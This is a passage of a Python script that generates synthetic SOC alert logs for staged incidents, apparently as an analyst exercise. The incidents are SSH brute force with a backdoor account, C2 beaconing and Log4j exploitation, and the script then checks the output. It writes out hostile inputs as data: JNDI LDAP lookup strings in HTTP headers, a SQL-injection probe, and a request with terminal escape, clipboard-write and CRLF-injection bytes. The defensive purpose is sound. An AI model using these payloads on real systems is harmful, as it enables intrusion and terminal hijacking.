            wazuh(t, "5763", host, line, "sshd", "/var/log/auth.log", data, frequency=8,
                  previous_output="\n".join(recent[1:]))
        else:
            wazuh(t, "5760", host, line, "sshd", "/var/log/auth.log", data)
        if i % 9 == 0:
            eve(t, 1001020, host, SSH_ATTACKER, me, 22, sport=port, app="ssh",
                ssh={"client": {"proto_version": "2.0", "software_version": "libssh_0.9.6"},
                     "server": {"proto_version": "2.0", "software_version": "OpenSSH_9.2p1"}})
    for t, hits in zip(spread("22:17:00", "22:59:00", 8, 0), (11, 13, 14, 13, 14, 13, 14, 13)):   # 105 sessions
        fw(t, "globex-gw-01", "rate", "SSH-RATE", "mid", SSH_ATTACKER, me, hits)
    # one alert, delivered twice: the second time with a higher count
    name = "SSH Brute Force: Many Failed Logins From One Source"
    ecs = {"source": {"ip": SSH_ATTACKER}, "user": {"name": "root"}}
    uid = elastic(at("22:16:00"), name, host, "high", ["T1110"], "authentication event by root", ecs,
                  " from " + SSH_ATTACKER, suppressed=26, category=("authentication",), lag=60)
    elastic(at("22:16:00"), name, host, "high", ["T1110"], "authentication event by root", ecs,
            " from " + SSH_ATTACKER, suppressed=311, category=("authentication",), alert_uuid=uid, lag=2565)

    t = at("22:58:47", 204)
    line = "%s %s sshd[31877]: Accepted password for root from %s port 51544 ssh2" % (
        t.strftime("%b %d %H:%M:%S"), host, SSH_ATTACKER)
    data = {"srcip": SSH_ATTACKER, "srcport": "51544", "dstuser": "root"}
    # the most specific rule again: 40112 stands for the accepted password
    wazuh(t, "40112", host, line, "sshd", "/var/log/auth.log", data)
    t2 = t + timedelta(milliseconds=690)
    wazuh(t2, "100520", host, "%s %s sshd[31877]: Starting session: shell on pts/1 for root from %s port 51544 id 0"
          % (t2.strftime("%b %d %H:%M:%S"), host, SSH_ATTACKER), "sshd", "/var/log/auth.log", data)
    elastic(t, "SSH Brute Force Followed by Successful Login", host, "critical", ["T1110", "T1078"],
            "authentication event by root", dict(ecs, event={"category": ["authentication"], "outcome": "success"}),
            " from " + SSH_ATTACKER, category=("authentication",))
    ocsf(t + timedelta(seconds=11), host, "SSH暴力破解成功", "来自 %s 的多次失败后 root 登录成功" % SSH_ATTACKER, 5,
         "PS-BRUTE-010", ["Credential Access"], ["T1110", "T1078"],
         {"src_endpoint": {"ip": SSH_ATTACKER, "port": 51544}, "dst_endpoint": {"ip": me, "port": 22},
          "actor": {"user": {"name": "root"}}}, version="1.3.0")
    for clock in ("22:31:20", "22:46:10"):
        ocsf(at(clock), host, "SSH暴力破解", "来自 %s 的多次登录失败" % SSH_ATTACKER, 3, "PS-BRUTE-009",
             ["Credential Access"], ["T1110"], {"src_endpoint": {"ip": SSH_ATTACKER}}, version="1.3.0",
             count=40)
    fw(at("22:58:48"), "globex-gw-01", "session", "SSH-OUTSIDE-LONG", "high", SSH_ATTACKER, me, 1, "root")
    wazuh(at("23:04:31", 610), "5902", host, "Nov 22 23:04:31 %s useradd[32110]: new user: name=sysupd, UID=0, "
          "GID=0, home=/var/tmp/.s, shell=/bin/bash, from=/dev/pts/1" % host, "useradd", "/var/log/auth.log",
          {"dstuser": "sysupd", "uid": "0", "gid": "0", "home": "/var/tmp/.s", "shell": "/bin/bash"})
    eve_flow_context(at("23:12:02", 40), host, SSH_ATTACKER, 51544, me, 22, flow_id(), 795, 40211, 131772, "ssh")


def incident_3_vpn():
    """globex-vpn-01: l.chen from Singapore 19:32, from Brazil 20:14."""
    host = "globex-vpn-01"
    geo = {CHEN_HOME: ("SG", "Singapore"), CHEN_AWAY: ("BR", "Brazil")}
    fw(at("19:32:04"), "globex-gw-01", "vpn", "VPN-LOGIN", "low", CHEN_HOME, ip(host), 1, "l.chen")
    for clock in ("20:11:40", "20:12:22", "20:12:58", "20:13:31"):
        t = at(clock, rng.randrange(900))
        wazuh(t, "100531", host, "%s %s vpnd: user=l.chen src=%s country=BR mfa=push result=refused"
              % (t.strftime("%b %d %H:%M:%S"), host, CHEN_AWAY), "vpnd", "/var/log/vpnd.log",
              {"srcip": CHEN_AWAY, "srcuser": "l.chen", "country": "BR"})
    fw(at("20:14:09"), "globex-gw-01", "vpn", "VPN-LOGIN", "low", CHEN_AWAY, ip(host), 1, "l.chen")
    fw(at("20:14:09"), "globex-gw-01", "vpn", "VPN-境外登录", "high", CHEN_AWAY, ip(host), 1, "l.chen")
    t = at("20:14:09", 733)
    wazuh(t, "100530", host, "%s %s vpnd: user=l.chen src=%s country=BR mfa=push result=ok "
          "previous=%s previous_country=SG previous_age=2525s" % (t.strftime("%b %d %H:%M:%S"), host, CHEN_AWAY, CHEN_HOME),
          "vpnd", "/var/log/vpnd.log", {"srcip": CHEN_AWAY, "srcuser": "l.chen", "country": "BR"})
    ocsf(at("20:14:20"), host, "异常登录", "账号 l.chen 一小时内从两个国家登录 VPN (SG, BR)", 4, "PS-LOGIN-004",
         ["Abnormal Login"], ["T1078"],
         {"src_endpoint": {"ip": CHEN_AWAY, "location": {"country": "BR"}},
          "actor": {"user": {"name": "l.chen"}}})
    for clock in ("20:14:12", "20:33:40"):
        elastic(at(clock), "Impossible Travel: VPN Logins From Two Countries", host, "high", ["T1078"],
                "authentication event by l.chen",
                {"source": {"ip": CHEN_AWAY, "geo": {"country_iso_code": geo[CHEN_AWAY][0],
                                                     "country_name": geo[CHEN_AWAY][1]}},
                 "user": {"name": "l.chen"}}, " from " + CHEN_AWAY, category=("authentication",))
    for clock, rows in (("20:21:30", 1200), ("20:29:02", 4800), ("20:38:55", 9600)):
        elastic(at(clock), "Unusual Number of Records Exported", "globex-app-02", "medium", ["T1530"],
                "database event by l.chen",
                {"source": {"ip": "10.22.8.61"}, "user": {"name": "l.chen"},
                 "file": {"name": "客户运单_%d行.csv" % rows, "path": "/exports/客户运单_%d行.csv" % rows}},
                " from 10.22.8.61", category=("database",))


def incident_4_beacon():
    """initech-ci-02: one POST every 60 s to cdn-sync.example, 23:20 to 00:33."""
    host, me = "initech-ci-02", ip("initech-ci-02")
    elastic(at("23:17:42"), "Build Job Ran a Downloaded Binary", host, "medium", ["T1204.002"],
            "process event with process .cache-sync, parent process bash, by gitlab-runner",
            process("/tmp/.cache-sync", "/tmp/.cache-sync --quiet", "/usr/bin/bash", "gitlab-runner", 24118))
    t = at("23:20:00", 412)
    for i in range(74):
        eve(t, 1001030, host, me, C2_ADDR, 80, app="http",
            http=http(C2_NAME, "/v2/sync", "POST", 200, "cdn-sync/1.4", 48))
        if i % 12 == 0:
            q = t - timedelta(milliseconds=210)
            eve_dns_context(q, host, me, C2_NAME, C2_ADDR)
            eve(q + timedelta(milliseconds=1), 1001031, host, me, "10.33.0.53", 53, "UDP", app="dns",
                dns={"query": [{"type": "query", "id": rng.randrange(65536), "rrname": C2_NAME,
                                "rrtype": "A", "tx_id": 0, "opcode": 0}]})
            wazuh(q + timedelta(milliseconds=30), "100540", host,
                  "%s initech-ns-01 dnsmasq[611]: query[A] %s from %s" % (q.strftime("%b %d %H:%M:%S"), C2_NAME, me),
                  "dnsmasq", "/var/log/dnsmasq.log", {"srcip": me, "query": C2_NAME})
        if i % 12 == 11 or i == 73:      # the firewall reports every twelfth hit
            fw(t, "initech-gw-01", "list", "C2-LIST-HIT", "high", me, C2_ADDR, i % 12 + 1)
        t += timedelta(seconds=60, milliseconds=rng.randrange(-350, 350))
    for clock in ("23:35:10", "00:05:10"):
        elastic(at(clock), "Regular Connections to a Rare Domain", host, "high", ["T1071.001"],
                "network event with process .cache-sync, by gitlab-runner",
                dict(process("/tmp/.cache-sync", "/tmp/.cache-sync --quiet", "/usr/bin/bash", "gitlab-runner", 24118),
                     destination={"ip": C2_ADDR, "port": 80, "domain": C2_NAME}),
                " to " + C2_ADDR, category=("network",), suppressed=14)
    for clock in ("23:30:12", "00:10:12"):
        ocsf(at(clock), host, "C2回连", "主机每 60 秒访问 %s (%s)" % (C2_NAME, C2_ADDR), 4, "PS-C2-020", ["C2"],
             ["T1071.001"], {"dst_endpoint": {"ip": C2_ADDR, "port": 80, "hostname": C2_NAME},
                             "process": {"name": ".cache-sync", "pid": 24118, "cmd_line": "/tmp/.cache-sync --quiet",
                                         "user": {"name": "gitlab-runner"}}})
    eve_flow_context(at("00:34:30", 800), host, me, 40122, C2_ADDR, 80, flow_id(), 61, 412, 388, "http")


def incident_5_jndi():
    """initech-git-01: JNDI strings 00:52-01:03, LDAP callback 01:03:14."""
    host, me, site = "initech-git-01", ip("initech-git-01"), "git.initech.example"
    text = "${jndi:ldap://%s:1389/x%d}"
    header = ["User-Agent", "Referer", "X-Api-Version", "X-Forwarded-For"]
    for i, t in enumerate(spread("00:52:20", "01:03:13", 16)):
        s = text % (JNDI_LDAP, i)
        h = http(site, "/users/sign_in" if i % 2 else "/search?q=a", status=200 if i == 15 else 302,
                 ua=s if i % 4 == 0 else UA_FIREFOX)
        if i % 4 == 1:
            h["http_refer"] = s
        elif i % 4 > 1:
            h["request_headers"] = [{"name": header[i % 4], "value": s}]
        eve(t, 1001040, host, JNDI_ATTACKER, me, 443, app="http", http=h)
        if i % 4 == 0:
            wazuh_access(t + timedelta(milliseconds=20), "100550", host, JNDI_ATTACKER, "GET /search?q=a", 302, s)
    for clock in ("00:55:01", "00:59:44"):
        eve(at(clock, 77), 1001040, "initech-ci-02", JNDI_ATTACKER, ip("initech-ci-02"), 443, app="http",
            action="blocked", http=http("ci.initech.example", "/login", status=403, ua=text % (JNDI_LDAP, 90)))
    t = at("01:03:14", 160)
    fid, sport = eve(t, 1001041, host, me, JNDI_LDAP, 1389, app="ldap")
    eve(t + timedelta(seconds=2), 1001041, host, me, JNDI_LDAP, 1389, app="ldap")
    eve_flow_context(t + timedelta(seconds=64), host, me, sport, JNDI_LDAP, 1389, fid, 3, 610, 1422, "ldap")
    wazuh(t + timedelta(milliseconds=400), "100551", host,
          "type=SYSCALL msg=audit(%d.560:88120): syscall=42 success=yes comm=\"java\" exe=\"/usr/bin/java\" "
          "daddr=%s dport=1389 uid=git" % (int(t.timestamp()), JNDI_LDAP), "auditd", "/var/log/audit/audit.log",
          {"srcip": me, "dstip": JNDI_LDAP, "dstport": "1389", "srcuser": "git", "process": "/usr/bin/java"})
    elastic(t, "Java Process Opened an LDAP Session to the Internet", host, "critical", ["T1190"],
            "network event with process java, by git",
            dict(process("/usr/bin/java", "java -jar /opt/search/indexer.jar", "/usr/lib/systemd/systemd", "git", 2210),
                 destination={"ip": JNDI_LDAP, "port": 1389}), " to " + JNDI_LDAP, category=("network",))
    ocsf(t + timedelta(seconds=6), host, "Log4j漏洞利用成功", "java 进程在收到 JNDI 字符串后外联 LDAP %s:1389" % JNDI_LDAP, 5,
         "PS-JNDI-030", ["Exploit"], ["T1190"],
         {"src_endpoint": {"ip": JNDI_ATTACKER}, "dst_endpoint": {"ip": JNDI_LDAP, "port": 1389},
          "process": {"name": "java", "pid": 2210, "cmd_line": "java -jar /opt/search/indexer.jar", "user": {"name": "git"}}})
    fw(t, "initech-gw-01", "session", "OUT-LDAP", "high", me, JNDI_LDAP, 2)


# --------------------------------------------------------------------------
# 4. the noise
# --------------------------------------------------------------------------

def outsider():
    return rng.choice(["192.0.2.", "198.51.100.", "203.0.113."]) + str(rng.randrange(200, 254))


def noise_internet_scanning():
    for sid, host, port, proto, n in ((1002001, "globex-gw-01", 23, "TCP", 15),
                                      (1002002, "acme-web-01", 3389, "TCP", 15),
                                      (1002003, "initech-git-01", 5060, "UDP", 13)):
        for t in spread("18:03:11", "03:22:40", n, 0.15):
            eve(t, sid, host, outsider(), ip(host), port, proto)
    for host, n in (("globex-gw-01", 24), ("acme-gw-01", 16), ("initech-gw-01", 16)):
        for t in spread("18:01:20", "03:28:00", n, 0.1):
            fw(t, host, "deny", "PORT-SWEEP", "low", outsider(), ip(host), rng.randrange(2, 40))


def noise_own_scanner():
    """10.11.9.9, change CR-118, window 23:30-01:30: a known false positive."""
    ua = "Mozilla/5.0 (compatible; AcmeVulnScan/7.2; CR-118)"
    for i in (1, 2, 3, 4):
        host = "acme-web-0%d" % i
        for t in spread("23:31:%02d" % (i * 7), "01:2%d:00" % i, 11):
            eve(t, 1004001, host, OWN_SCANNER, ip(host), 443, app="http",
                http=http(host, rng.choice(["/", "/cgi-bin/test", "/phpinfo.php", "/server-status"]),
                          status=404, ua=ua, length=153))
    for host in ("acme-web-01", "acme-web-02"):
        for t in spread("23:52:10", "00:58:30", 9):
            eve(t, 1004002, host, OWN_SCANNER, ip(host), 443, app="http",
                http=http(host, "/item?id=1%20UNION%20SELECT%20NULL", status=400, ua=ua, length=153))
    for host in ("acme-web-01",):
        for t in spread("23:40:00", "01:18:00", 12):
            wazuh_access(t, "31151", host, OWN_SCANNER, "GET /phpinfo.php", 404, ua, frequency=14)
    elastic(at("23:34:00"), "Port Scan Seen From One Internal Address", "acme-web-01", "medium", ["T1046"],
            "network event", {"source": {"ip": OWN_SCANNER}}, " from " + OWN_SCANNER, category=("network",), suppressed=380)
    for clock in ("23:50:00", "00:20:00", "00:50:00"):
        fw(at(clock), "acme-gw-01", "rate", "INSIDE-SCAN", "mid", OWN_SCANNER, "10.11.3.0", 940)


def noise_expired_service_account():
    """svc-mes on acme-ws-017: the password expired on Friday, a job still tries it."""
    for i, t in enumerate(spread("18:02:00", "03:26:00", 34, 0.05)):
        data = {"win": {"system": {"providerName": "Microsoft-Windows-Security-Auditing", "eventID": "4625",
                                   "channel": "Security", "computer": "acme-ws-017",
                                   "eventRecordID": str(918200 + i * 3), "severityValue": "AUDIT_FAILURE",
                                   "keywords": "0x8010000000000000",
                                   "systemTime": t.strftime("%Y-%m-%dT%H:%M:%S.") + "%07dZ" % (t.microsecond * 10),
                                   "message": "An account failed to log on."},
                        "eventdata": {"targetUserName": "svc-mes", "targetDomainName": "ACME", "logonType": "5",
                                      "status": "0xc000006e", "subStatus": "0xc0000071", "ipAddress": "-",
                                      "failureReason": "%%2309", "processName": "C:\\\\Windows\\\\System32\\\\services.exe"}}}
        rule, freq = ("60204", 8) if i % 3 == 2 else ("60122", None)
        wazuh(t, rule, "acme-ws-017", json.dumps(data), "windows_eventchannel", "EventChannel", data, freq)


def noise_weak_passwords():
    for i, host in enumerate(("globex-app-02", "initech-ws-101")):
        for t in spread("19:0%d:10" % i, "19:5%d:10" % i, 4):
            wazuh(t, "19007", host, "sca check 35514 failed", "sca", "sca",
                  {"sca": {"type": "check", "policy": "CIS benchmark", "check":
                           {"id": "35514", "title": "Ensure minimum password length is 14 or more",
                            "result": "failed", "rationale": "Longer passwords are harder to guess."}}})
    for host, users in (("acme-db-01", ("mes", "report", "test", "demo", "edi")),):
        for i, user in enumerate(users):
            ocsf(at("18:3%d:00" % i), host, "弱口令", "账号 %s 使用弱口令" % user, 2, "PS-WEAKPW-040", ["Weak Password"],
                 evidence={"actor": {"user": {"name": user}}})


def noise_policy_hits():
    for t in spread("18:05:00", "03:25:00", 26, 0.1):
        eve(t, 1003001, "initech-ci-02", ip("initech-ci-02"), "192.0.2.200", 80, app="http",
            http=http("mirror.initech.example", "/pkg/index", ua="curl/7.88.1"))
    for t in spread("18:08:00", "03:10:00", 18, 0.1):
        eve(t, 1003003, "acme-ws-017", ip("acme-ws-017"), "10.11.2.25", 8443, app="tls",
            tls={"subject": "CN=acme-mail-01", "issuerdn": "CN=acme-mail-01", "version": "TLS 1.2",
                 "sni": "acme-mail-01.acme.example"})
    for t in spread("20:01:00", "21:40:00", 8):
        eve(t, 1003004, "initech-ws-101", ip("initech-ws-101"), "10.33.0.53", 53, "UDP", app="dns",
            dns={"query": [{"type": "query", "id": rng.randrange(65536), "rrname": "home-nas.dyndns.example",
                            "rrtype": "A", "tx_id": 0, "opcode": 0}]})
    for t in spread("18:20:00", "03:00:00", 16, 0.1):
        eve(t, 1003005, "globex-vpn-01", "198.51.100.201", ip("globex-vpn-01"), 443)
    for t in spread("18:00:40", "03:15:00", 6):      # context, not alerts
        eve_dns_context(t, "acme-ws-017", ip("acme-ws-017"), "time.acme.example", "10.11.0.5")
    for t in spread("18:30:00", "02:40:00", 5):
        eve_flow_context(t, "globex-app-02", ip("globex-app-02"), rng.randrange(32768, 60999),
                         ip("globex-db-01"), 5432, flow_id(), rng.randrange(3, 300), rng.randrange(900, 90000),
                         rng.randrange(900, 900000), "failed")


def noise_phish():
    """Mass mailing to acme 19:05-19:24, every message refused."""
    for i, t in enumerate(spread("19:05:10", "19:24:30", 20)):
        wazuh(t, "100560", "acme-mail-01",
              "%s acme-mail-01 mailgw[811]: reject from=<billing%d@invoices.example> to=<user%02d@acme.example> "
              "attachment=发票_2026-11.docm verdict=phish" % (t.strftime("%b %d %H:%M:%S"), i % 4, i),
              "mailgw", "/var/log/mail.log",
              {"srcip": "203.0.113.21", "srcuser": "billing%d@invoices.example" % (i % 4),
               "dstuser": "user%02d@acme.example" % i, "file": "发票_2026-11.docm"})
    for t in spread("19:05:12", "19:22:00", 7):
        eve(t, 1006001, "acme-mail-01", "203.0.113.21", ip("acme-mail-01"), 25, app="smtp", action="blocked",
            smtp={"helo": "invoices.example", "mail_from": "<billing@invoices.example>",
                  "rcpt_to": ["<user@acme.example>"]},
            email={"status": "PARSE_DONE", "from": "billing@invoices.example", "to": ["user@acme.example"],
                   "attachment": ["发票_2026-11.docm"]})
    # a file name that shows as "...exe.pdf" reversed: right-to-left override
    ocsf(at("19:26:00"), "acme-mail-01", "批量钓鱼邮件已拦截", "邮件附件 账单\u202efdp.exe 已隔离", 2, "PS-MAIL-050",
         ["Phishing"], ["T1566.001"], {"file": {"name": "账单\u202efdp.exe", "type_id": 1},
                                       "src_endpoint": {"ip": "203.0.113.21"}})


def noise_syn_bursts():
    for first, last in (("18:40:05", "18:43:00"), ("02:10:05", "02:13:00")):
        for t in spread(first, last, 5):
            eve(t, 1005001, "globex-gw-01", outsider(), ip("globex-gw-01"), 443)
        for t in spread(first, last, 3):
            fw(t, "globex-gw-01", "flood", "SYN-BURST", "mid", outsider(), ip("globex-gw-01"), rng.randrange(4000, 9000))


def noise_cloud_posture():
    for clock in ("18:30:00", "19:20:00"):      # the same findings, reported by two runs
        posture(at(clock, 100), "acme", "acme-drawings-bucket", "Bucket", "Bucket allows public listing", 4, "cl-101")
        posture(at(clock, 200), "globex", "globex-track-sg", "Security Group", "Port 22 open to 0.0.0.0/0", 3, "cl-114")
        posture(at(clock, 300), "initech", "initech-build-role", "IAM Role", "Role has wildcard permissions", 3, "cl-130")
    posture(at("18:30:00", 500), "globex", "globex-logs-bucket", "Bucket", "Bucket encryption is on", 1, "cl-102", "PASS")


def noise_daily_business():
    for t in spread("18:04:00", "03:18:00", 20, 0.1):
        wazuh(t, "5402", "initech-ci-02",
              "%s initech-ci-02 sudo: deploy : TTY=unknown ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl reload app"
              % t.strftime("%b %d %H:%M:%S"), "sudo", "/var/log/auth.log",
              {"srcuser": "deploy", "dstuser": "root", "tty": "unknown", "pwd": "/srv",
               "command": "/usr/bin/systemctl reload app"})
    for t in spread("01:40:00", "02:20:00", 6):
        wazuh_file(t, "550", "acme-web-01", "/var/www/html/公告/停机通知.html", "www-data", digests(str(t)), 2210, "modified")
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    for t in spread("19:40:00", "21:10:00", 4):
        elastic(t, "PowerShell Script Run by a Software Deployment Tool", "acme-ws-017", "low", [],
                "process event with process powershell.exe, by SYSTEM",
                process(ps, "powershell.exe -File C:\\deploy\\更新.ps1", "C:\\deploy\\agent.exe", "SYSTEM"))
    for t in spread("02:00:00", "02:30:00", 3):
        elastic(t, "Macro Document Blocked by Endpoint Policy", "initech-ws-101", "low", ["T1204.002"],
                "malware event with process WINWORD.EXE, by m.bolton",
                dict(process("C:\\Office\\WINWORD.EXE", "WINWORD.EXE 发票_2026-11.docm", "C:\\Windows\\explorer.exe", "m.bolton"),
                     file={"name": "发票_2026-11.docm", "hash": {"sha256": digests("docm")[2]}}), category=("malware",))
    for t in spread("18:50:00", "19:10:00", 3):       # building blocks: not for the analyst's eyes
        elastic(t, "First Time Seen Process on Host", "initech-ws-101", "low", [], "process event",
                process("C:\\Tools\\jq.exe", "jq.exe .", "C:\\Windows\\System32\\cmd.exe", "m.bolton"), building_block=True)
    ocsf_2001(at("19:51:00"), "acme-ws-017", "Adware installer quarantined", "Toolbar_setup.exe was quarantined", 2, "LAV-2201")
    ocsf_2001(at("02:05:00"), "initech-ws-101", "Macro document quarantined", "发票_2026-11.docm was quarantined", 3, "LAV-3107")


def noise_hostile_text():
    """One request built to harm a terminal: ESC, CR, bidi, zero width, NUL."""
    eve(at("00:07:33", 500), 1009001, "acme-web-02", "203.0.113.66", ip("acme-web-02"), 80, app="http",
        signature="WF WEB_SERVER Control bytes in request \u001b[2J\u001b[1;31mALL CLEAR\u001b[0m\r"
                  "\u202egnp.nosalf\u202c zero\u200bwid\u200dth\ufeff",
        http=http("www.acme.example", "/search?q=\u001b]0;owned\u0007\u001b]52;c;ZWNobyBoaQ==\u0007%0d\r\nX-Injected: 1"
                  "&f=report\u202efdp.exe\u200b", status=400, length=0,
                  ua="Mozilla/5.0 \u001b[8m(hidden)\u001b[28m \u009b31m\u2066\u2069 \u200f\U0001f600\r\u001b[1A\u001b[2K nice",
                  http_refer="http://a.example/\u0000/b\t\u007f"))


# --------------------------------------------------------------------------
# 5. files
# --------------------------------------------------------------------------

def in_order(records):
    return [r for _, r in sorted(records, key=lambda x: x[0])]


def ndjson(records, ascii_only=False):
    return [json.dumps(r, ensure_ascii=ascii_only, separators=(",", ":")) for r in records]


def with_broken_lines(lines):
    """Three lines a reader has to refuse, and go on: cut short, bad quotes, not JSON."""
    third, half = len(lines) // 3, len(lines) // 2
    midnight = next(i for i, x in enumerate(lines) if x.startswith('{"timestamp":"2026-11-23'))
    cut = lines[third][:331]
    text = "2026/11/23 00:00:00 wazuh-monitord: INFO: Starting new log after rotation."
    quotes = lines[half].replace('"full_log":"', '"full_log":"said "hello" and left ', 1)
    out = list(lines)
    for where, line in ((midnight, text), (half + 1, quotes), (third + 1, cut)):
        out.insert(where, line)
    return out


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def generate():
    for story in (incident_1_webshell, incident_2_bruteforce, incident_3_vpn, incident_4_beacon,
                  incident_5_jndi, noise_internet_scanning, noise_own_scanner,
                  noise_expired_service_account, noise_weak_passwords, noise_policy_hits, noise_phish,
                  noise_syn_bursts, noise_cloud_posture, noise_daily_business, noise_hostile_text):
        story()
    renumber()
    text = lambda lines: ("\n".join(lines) + "\n").encode()
    # EVE is pure ASCII: anything else is escaped, so ESC stands there as \u001b
    write("suricata-eve.json", text(ndjson(in_order(EVE), ascii_only=True)))
    write("wazuh-alerts.json", text(with_broken_lines(ndjson(in_order(WAZUH)))))
    write("elastic-alerts.ndjson", text(ndjson(in_order(ELASTIC))))
    write("ocsf-findings.json", (json.dumps(in_order(OCSF), ensure_ascii=False, indent=2) + "\n").encode())
    packed = io.BytesIO()
    with gzip.GzipFile("", "wb", 9, packed, mtime=0) as z:
        z.write(text(ndjson(in_order(FW))))
    write("edge-fw.json.gz", packed.getvalue())


def renumber():
    """The stories were told one after another: counters must follow the clock."""
    fired, offset = {}, {"wazuh-acme": 48213077, "wazuh-globex": 19380442, "wazuh-initech": 7720951}
    for r in in_order(WAZUH):
        key = (r["manager"]["name"], r["rule"]["id"])
        fired[key] = r["rule"]["firedtimes"] = fired.get(key, 0) + 1
        offset[key[0]] += rng.randrange(480, 2100)
        r["id"] = "%s.%d" % (r["id"].split(".")[0], offset[key[0]])
    number = 883100
    for r in in_order(FW):
        number += rng.randrange(1, 9)
        r["id"] = "fw-%d" % number


# --------------------------------------------------------------------------
# 6. the check
# --------------------------------------------------------------------------

def read(name):
    with open(os.path.join(HERE, name), "rb") as f:
        return f.read()


def check():
    """Parses every file by the formats' own rules and tests what README.md says."""
    events, rejected = [], []      # event: (time, source, rule, asset, severity 0..5)

    eve_lines = [json.loads(x) for x in read("suricata-eve.json").decode("ascii").splitlines()]
    parse = lambda s: datetime.strptime(s, "%Y-%m-%dT%H:%M:%S.%f%z")
    for r in eve_lines:
        if r["event_type"] == "alert":
            words = {"Critical": 5, "Major": 4, "Minor": 2, "Informational": 1}
            word = r["alert"]["metadata"].get("signature_severity", [None])[0]
            sev = words.get(word, 5 - r["alert"]["severity"])
            events.append((parse(r["timestamp"]), "eve", r["alert"]["signature_id"], r["host"], sev, r))

    wazuh_lines = read("wazuh-alerts.json").decode().split("\n")[:-1]
    for x in wazuh_lines:
        try:
            r = json.loads(x)
        except ValueError:
            rejected.append(x)
            continue
        lv = r["rule"]["level"]
        sev = 1 if lv <= 3 else 2 if lv <= 6 else 3 if lv <= 11 else 4 if lv <= 14 else 5
        events.append((parse(r["timestamp"]), "wazuh", r["rule"]["id"], r["agent"]["name"], sev, r))

    findings = json.loads(read("ocsf-findings.json"))
    for r in findings:
        info = r.get("finding_info", {})
        rule = info["analytic"]["uid"] if info else r["analytic"]["uid"]
        events.append((datetime.fromtimestamp(r["time"] / 1000, UTC), "ocsf", rule,
                       r["resources"][0]["name"], r["severity_id"], r))

    elastic_lines = [json.loads(x) for x in read("elastic-alerts.ndjson").decode().splitlines()]
    for r in elastic_lines:
        sev = {"low": 2, "medium": 3, "high": 4, "critical": 5}[r["kibana.alert.severity"]]
        events.append((datetime.fromisoformat(r["@timestamp"].replace("Z", "+00:00")), "elastic",
                       r["kibana.alert.rule.rule_id"], r["host"]["name"], sev, r))

    fw_lines = [json.loads(x) for x in gzip.decompress(read("edge-fw.json.gz")).decode().splitlines()]
    for r in fw_lines:
        t = datetime.strptime(r["ts"] + " +0800", "%Y-%m-%d %H:%M:%S %z").astimezone(UTC)
        events.append((t, "fw", r["sig"], r["host"], {"low": 2, "mid": 3, "high": 4}[r["lvl"]], r))

    events.sort(key=lambda e: e[0])
    for e in events:
        assert NIGHT_START <= e[0] <= NIGHT_END, e
    assert len(rejected) == 3, len(rejected)
    assert any(r["flow_id"] > 2**53 for r in eve_lines)
    assert len({r["id"] for _, s, _, _, _, r in events if s == "wazuh"}) == len(wazuh_lines) - 3
    assert len({r["id"] for r in fw_lines}) == len(fw_lines)
    for name in ("suricata-eve.json", "wazuh-alerts.json", "ocsf-findings.json", "elastic-alerts.ndjson"):
        assert not any(b < 32 and b != 10 for b in read(name)), name     # no raw control bytes
    assert b"\\u001b" in read("suricata-eve.json") and b"\\u202e" in read("suricata-eve.json")

    def of(source, rule, asset):
        got = [e for e in events if e[1:4] == (source, rule, asset)]
        assert got, (source, rule, asset)
        return got
    elastic_id = {r["kibana.alert.rule.name"]: r["kibana.alert.rule.rule_id"] for r in elastic_lines}

    # 1: exploit accepted < file written < EDR < first command < its answer
    w = "acme-web-03"
    post = [e for e in of("eve", 1001010, w) if e[5]["http"]["status"] == 200]
    steps = [of("eve", 1001001, w)[-1], post[0], of("wazuh", "554", w)[0], of("wazuh", "100510", w)[0],
             of("ocsf", "PS-WEBSHELL-001", w)[0], of("eve", 1001011, w)[0], of("eve", 1001012, w)[0]]
    assert [e[0] for e in steps] == sorted(e[0] for e in steps)
    assert steps[5][5]["http"]["url"] == "/upload/a.jsp?cmd=id"
    curl = [e for e in of("eve", 1001011, w) if "curl" in e[5]["http"]["url"]][0]
    assert curl[0] < of("eve", 1001013, w)[0][0] < curl[0] + timedelta(seconds=5)
    # 2: all failures before the success, the new account after it
    d = "globex-db-01"
    fails = of("wazuh", "5760", d) + of("wazuh", "5763", d)
    ok = of("wazuh", "40112", d)[0][0]
    assert len(fails) == 104 and max(e[0] for e in fails) < ok < of("wazuh", "5902", d)[0][0]
    assert sum(r["hits"] for r in fw_lines if r["sig"] == "SSH-RATE") == 105
    assert of("elastic", elastic_id["SSH Brute Force Followed by Successful Login"], d)[0][0] > ok
    # 3: two logins of l.chen less than an hour apart, from two addresses
    vpn = [e for e in of("fw", "VPN-LOGIN", "globex-gw-01") if e[5]["acct"] == "l.chen"]
    assert len({e[5]["saddr"] for e in vpn}) == 2 and vpn[1][0] - vpn[0][0] < timedelta(hours=1)
    assert abs(of("wazuh", "100530", "globex-vpn-01")[0][0] - vpn[1][0]) < timedelta(seconds=2)
    # 4: one beacon every 60 s
    beacon = [e[0] for e in of("eve", 1001030, "initech-ci-02")]
    gaps = [(b - a).total_seconds() for a, b in zip(beacon, beacon[1:])]
    assert len(beacon) == 74 and all(59 < g < 61 for g in gaps)
    assert sum(r["hits"] for r in fw_lines if r["sig"] == "C2-LIST-HIT") == 74
    # 5: the callback comes right after the last lookup string
    last = of("eve", 1001040, "initech-git-01")[-1][0]
    back = of("eve", 1001041, "initech-git-01")[0][0]
    assert timedelta(0) < back - last < timedelta(seconds=2)

    tickets, newest, opened = 0, {}, {}
    for e in events:
        key = e[1:4]
        if key not in newest or e[0] - newest[key] > timedelta(hours=1):
            tickets += 1
            opened[key] = opened.get(key, 0) + 1
        newest[key] = e[0]
    print("suricata-eve.json      %4d lines, %d alerts, %d context" % (
        len(eve_lines), sum(r["event_type"] == "alert" for r in eve_lines),
        sum(r["event_type"] != "alert" for r in eve_lines)))
    print("wazuh-alerts.json      %4d lines, %d broken" % (len(wazuh_lines), len(rejected)))
    print("ocsf-findings.json     %4d findings, %d of class 2001" % (
        len(findings), sum(r["class_uid"] == 2001 for r in findings)))
    print("elastic-alerts.ndjson  %4d lines" % len(elastic_lines))
    print("edge-fw.json.gz        %4d lines" % len(fw_lines))
    print("all                    %4d records, %d alerts" % (
        len(eve_lines) + len(wazuh_lines) + len(findings) + len(elastic_lines) + len(fw_lines), len(events)))
    print("severity 1..5          %s" % [sum(e[4] == s for e in events) for s in (1, 2, 3, 4, 5)])
    print("tickets (rule+asset, gap 1 h)  %d" % tickets)
